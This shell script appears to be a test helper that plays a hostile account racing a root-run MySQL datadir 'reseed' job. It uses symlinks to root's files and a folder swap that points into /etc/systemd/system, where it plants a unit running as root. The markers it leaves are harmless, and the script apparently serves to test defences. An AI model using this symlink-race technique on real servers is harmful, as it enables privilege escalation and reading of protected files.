#!/bin/sh
# The account of a target's server, hostile: what a process of it does in the datadir when a job's folder appears. Says each thing that
# it has done, on a line.
#   hostile-account.sh links DATADIR ROOTS   at once: links to files of root's have the names that a seed writes and keeps. While the old
#     data goes aside: a folder of the account's takes the place of the job's, with links where root will move and read
#   hostile-account.sh link  DATADIR ROOTS   as soon as the job's listener is there: a link to ROOTS takes the place of the job's folder
# ROOTS: a folder of root's, with a file `secret` that root alone may read.
set -u
how=$1 roots=$3
cd "$2" || exit
until set -- .reseed-* && [ -d "$1" ]; do sleep 0.05; done
folder=$1
job=${folder#.reseed-}

# A unit that root's systemd would start with the server, were it in systemd's own folder.
lay_unit() {
  mkdir "$1" && printf '[Service]\nType=oneshot\nExecStart=/bin/touch /root/owned\n' >"$1/owned.service" && echo "a unit in $1"
}

case $how in
  links)
    ln -s "$roots/secret" RESEED_IN_PROGRESS && echo 'a link as RESEED_IN_PROGRESS'
    if [ -e mysqld-auto.cnf ]; then mv mysqld-auto.cnf mysqld-auto.cnf.backup; fi
    ln -s "$roots/secret" mysqld-auto.cnf && echo 'a link as mysqld-auto.cnf'
    # Not before: what no server makes keeps a seed from its swap.
    while [ -e ibdata1 ]; do sleep 0.02; done
    lay_unit mysql.service.wants
    mv "$folder" .reseed-gone && mkdir -m 700 "$folder" "$folder/new" && ln -s /etc/systemd/system "$folder/old" &&
      printf '%s %s\n' "$job" "$(stat -c %i .)" >"$folder/job" && echo switched >"$folder/phase" && echo new >"$folder/before" &&
      echo mysql:mysql >"$folder/owner" && echo mysql >"$folder/held" && echo 'a folder in the place of the folder of the job'
    lay_unit "$folder/new/mysql.service.wants"
    ;;
  link)
    # Ports from 21000 to 21099; 0A: listens.
    until awk '$4 == "0A" && $2 ~ /:52(0[89A-F]|[1-5][0-9A-F]|6[0-9AB])$/ { found = 1 } END { exit !found }' /proc/net/tcp /proc/net/tcp6; do sleep 0.05; done
    mv "$folder" .reseed-gone && ln -s "$roots" "$folder" && echo 'a link in the place of the folder of the job'
    ;;
esac
